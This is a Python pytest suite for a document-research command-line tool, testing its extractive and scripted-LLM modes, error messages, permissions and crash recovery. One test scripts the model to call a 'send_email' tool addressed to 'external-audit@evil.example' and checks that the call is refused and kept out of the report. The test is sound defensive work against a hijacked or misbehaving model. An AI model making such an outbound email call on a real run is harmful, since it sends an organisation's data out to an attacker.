"""``cristal research`` as a user runs it: extractive offline, LLM mode against a scripted model server."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from sqlalchemy import text as sa_text

from cristal.db import Database
from cristal.testing.scripted_model import ScriptedModel, http_status, json_reply, text, tool_call
from tests.conftest import CliResult
from tests.research.company import build
from tests.research.test_llm import honest_writer

Q = "What is the hotel cap in Munich?"
AS = ["--org", "acme", "--as", "eng@acme.example"]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("research-cli")
    build(root / "c.db", root / "docs")
    return root / "c.db"


@pytest.fixture
def rcli(cli, db_url: str, template: Path):  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    shutil.copyfile(template, db_url.removeprefix("sqlite:///"))
    return cli


def llm_env(model: ScriptedModel) -> dict[str, str]:
    return {"CRISTAL_LLM_BASE_URL": model.base_url, "CRISTAL_LLM_API_KEY": "k", "CRISTAL_LLM_MODEL": "scripted",
            "CRISTAL_LLM_MAX_RETRIES": "0"}


def test_extractive_json_markdown_and_html(rcli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    r = rcli("research", Q, *AS, "--json", "--out", str(tmp_path / "report.md"), "--html", str(tmp_path / "report.html"))
    assert r.code == 0, r.stderr
    doc = json.loads(r.stdout)
    assert {"question", "mode", "report", "citations"} <= set(doc) and doc["mode"] == "extractive" and doc["status"] == "complete"
    assert all({"n", "doc_id", "uri", "quote"} <= set(c) for c in doc["citations"])
    assert (tmp_path / "report.md").read_text(encoding="utf-8") == doc["report"]
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert 'href="#cite-1"' in page and "<script" not in page


def test_progress_on_stderr_and_markdown_on_stdout(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    r = rcli("research", Q, *AS)
    assert r.code == 0, r.stderr
    assert r.stdout.startswith("# What is the hotel cap in Munich?")
    for word in ("plan", "search", "read"):
        assert word in r.stderr


def test_llm_mode_end_to_end(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    script = [json_reply({"subquestions": [Q]}), tool_call("send_email", {"to": "external-audit@evil.example"}), tool_call("finish"),
              honest_writer]
    with ScriptedModel(script) as model:
        r = rcli("research", Q, *AS, "--json", extra_env=llm_env(model))
        assert len(model.chat_requests) == 4
    assert r.code == 0, r.stderr
    doc = json.loads(r.stdout)
    assert (doc["mode"], doc["status"], doc["written_by"]) == ("llm", "complete", "model")
    assert "180 EUR" in doc["report"] and "evil.example" not in doc["report"]
    assert doc["refused_tool_calls"][0]["name"] == "send_email"
    assert "send_email" in r.stderr  # the refusal is visible


def test_llm_failure_is_partial_then_resumed(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    with ScriptedModel([json_reply({"subquestions": [Q]}), http_status(503, times=3)]) as model:
        r = rcli("research", Q, *AS, "--json", extra_env=llm_env(model))
    assert r.code == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["status"] == "partial" and doc["citations"] and "partial report" in r.stderr
    with ScriptedModel([tool_call("finish"), honest_writer]) as model:
        r = rcli("research", "--resume", doc["run_id"], *AS, "--json", extra_env=llm_env(model))
    assert r.code == 0, r.stderr
    assert json.loads(r.stdout)["status"] == "complete"


@pytest.mark.parametrize("args, code, message", [
    (["research", "", *AS], 2, "empty question"),
    (["research", *AS], 2, "empty question"),
    (["research", "Какой лимит?", *AS], 2, "not supported"),
    (["research", Q, *AS, "--mode", "llm"], 6, "no LLM endpoint configured"),
    (["research", Q, *AS, "--lang", "fr"], 2, "--lang must be one of"),
    (["research", Q, "--org", "empty", "--as", "eng@empty.example"], 2, "no searchable sources"),
    (["research", Q, "--org", "nope", "--as", "eng@acme.example"], 3, "nope"),
    (["research", "--resume", "0123456789ab", *AS], 3, "no research run"),
    (["research", Q, *AS, "--max-tokens", "2000000"], 2, "--max-tokens: at most 1000000 tokens"),
    (["research", Q, *AS, "--max-seconds", "7200"], 2, "--max-seconds: at most 3600 seconds"),
])
def test_bad_input_is_one_line(rcli, args, code, message) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    r = rcli(*args)
    assert r.code == code, (r.stdout, r.stderr)
    assert message in r.stderr and "Traceback" not in r.stderr
    assert len([line for line in r.stderr.splitlines() if line.startswith("error:")]) == 1


def test_no_results_the_user_may_see(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    r = rcli("research", Q, "--org", "locked", "--as", "eng@locked.example", "--json")
    assert r.code == 0
    doc = json.loads(r.stdout)
    assert doc["status"] == "no_results" and doc["citations"] == [] and "999" not in r.stdout
    assert "no documents you may read" in r.stderr


def _count(db_url: str, sql: str) -> int:
    db = Database(db_url)
    try:
        with db.session() as s:
            return int(s.execute(sa_text(sql)).scalar() or 0)
    finally:
        db.dispose()


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def any_cli(request, tmp_path: Path, template: Path):  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    """``cristal`` over the research company on SQLite (a copy of the template) or on a real PostgreSQL server."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'kill.db'}"
        shutil.copyfile(template, tmp_path / "kill.db")
    else:
        url = request.getfixturevalue("postgres_server").new_database()
        build(url, tmp_path / "docs")
    env = {**os.environ, "CRISTAL_DATABASE_URL": url}

    def run(*args: str, extra_env: dict[str, str] | None = None) -> CliResult:
        proc = subprocess.run([sys.executable, "-m", "cristal", *args], capture_output=True, text=True,
                              env={**env, **(extra_env or {})}, timeout=120)
        return CliResult(proc.returncode, proc.stdout, proc.stderr)

    run.env, run.url = env, url  # type: ignore[attr-defined]  # attributes hung on the fixture's function
    return run


def test_a_research_run_is_a_workflow_run(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    doc = json.loads(rcli("research", Q, *AS, "--json").stdout)
    assert doc["run_id"].startswith("run_") and doc["research_id"]
    status = json.loads(rcli("workflow", "status", doc["run_id"], "--as", "eng@acme.example", "--json").stdout)
    assert (status["workflow"], status["status"], status["owner"]) == ("research", "succeeded", "eng@acme.example")
    assert status["steps"][0]["kind"] == "research" and status["steps"][0]["output"]["report"] == doc["report"]
    listed = json.loads(rcli("workflow", "list", *AS, "--json").stdout)["runs"]
    assert [r["run_id"] for r in listed] == [doc["run_id"]]
    # Someone else may neither read nor resume it.
    other = rcli("research", "--resume", doc["run_id"], "--org", "acme", "--as", "fin@acme.example")
    assert other.code == 5 and "Traceback" not in other.stderr
    again = rcli("research", "--resume", doc["run_id"], *AS, "--json")  # complete: returned as it is
    assert again.code == 0 and json.loads(again.stdout)["report"] == doc["report"]


@pytest.mark.parametrize("finisher", ["worker", "resume"])
def test_sigkill_mid_run_is_finished_without_repeating_searches(any_cli, finisher: str) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    """kill -9 while the model writes: `cristal worker` or `--resume` finishes the same run from its notes."""
    rcli = any_cli
    arrived, release = threading.Event(), threading.Event()

    def stalled_writer(request: dict) -> object:
        arrived.set()  # the plan, searches and reflection are checkpointed by now
        release.wait(60)
        return text("never delivered: the process asking was killed")

    script = [json_reply({"subquestions": [Q, "Did the hotel cap change recently?"]}), tool_call("finish"),
              stalled_writer, honest_writer]
    searches_sql = "select count(*) from audit_records where action = 'knowledge.search'"
    with ScriptedModel(script) as model:
        env = {**rcli.env, **llm_env(model)}
        proc = subprocess.Popen([sys.executable, "-m", "cristal", "research", Q, *AS, "--json"], env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            assert arrived.wait(120), "the run never reached the writing phase"
        finally:
            proc.send_signal(signal.SIGKILL)
            proc.wait()
            release.set()
        searches = _count(rcli.url, searches_sql)
        assert searches >= 2
        (run,) = json.loads(rcli("workflow", "list", *AS, "--json").stdout)["runs"]
        assert run["status"] == "running"  # durable: the run outlived its process
        if finisher == "worker":
            worker = subprocess.Popen([sys.executable, "-m", "cristal", "worker"], env=env,
                                      stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            try:
                deadline = time.monotonic() + 120
                while True:
                    status = json.loads(rcli("workflow", "status", run["run_id"], "--as", "eng@acme.example", "--json").stdout)
                    if status["status"] in ("succeeded", "failed") or time.monotonic() > deadline:
                        break
                    time.sleep(0.3)
            finally:
                worker.send_signal(signal.SIGTERM)
                assert worker.wait(timeout=60) == 0
            assert status["status"] == "succeeded", status
            doc = status["steps"][0]["output"]
        else:
            r = rcli("research", "--resume", run["run_id"], *AS, "--json", extra_env=llm_env(model))
            assert r.code == 0, r.stderr
            doc = json.loads(r.stdout)
        requests = model.chat_requests
    assert doc["run_id"] == run["run_id"] and doc["status"] == "complete" and "180 EUR" in doc["report"]
    assert _count(rcli.url, searches_sql) == searches  # no search was repeated
    # plan, reflection, the stalled write, the write again: the plan and reflection were not asked twice
    assert len(requests) == 4
    assert sum(1 for r in requests if "You plan research" in r.json["messages"][0]["content"]) == 1


def test_budget_exhausted_mid_run_is_partial_and_continued_by_a_new_run(rcli, db_url: str) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
    q = "What is the per diem for meals and how long is the filter warranty?"
    searches_sql = "select count(*) from audit_records where action = 'knowledge.search'"
    r = rcli("research", q, *AS, "--max-steps", "1", "--json")
    assert r.code == 0, r.stderr
    partial = json.loads(r.stdout)
    assert partial["status"] == "partial" and "step budget exhausted" in partial["error"] and partial["citations"]
    assert _count(db_url, searches_sql) == partial["stats"]["searches"] == 1
    assert f"--resume {partial['run_id']}" in r.stderr and f"--resume {partial['run_id']}" in partial["report"]
    failed = json.loads(rcli("workflow", "status", partial["run_id"], "--as", "eng@acme.example", "--json").stdout)
    assert failed["status"] == "failed" and "research stopped early" in failed["error"]
    r = rcli("research", "--resume", partial["run_id"], *AS, "--json")
    assert r.code == 0, r.stderr
    done = json.loads(r.stdout)
    assert done["status"] == "complete" and done["research_id"] == partial["research_id"]
    assert done["run_id"] != partial["run_id"] and "6 Monaten" in done["report"] and "28 EUR" in done["report"]
    # the search done before the budget ran out is not repeated
    assert _count(db_url, searches_sql) == done["stats"]["searches"] >= 3
    retry = json.loads(rcli("workflow", "status", done["run_id"], "--as", "eng@acme.example", "--json").stdout)
    assert retry["retry_of"] == partial["run_id"] and retry["status"] == "succeeded"
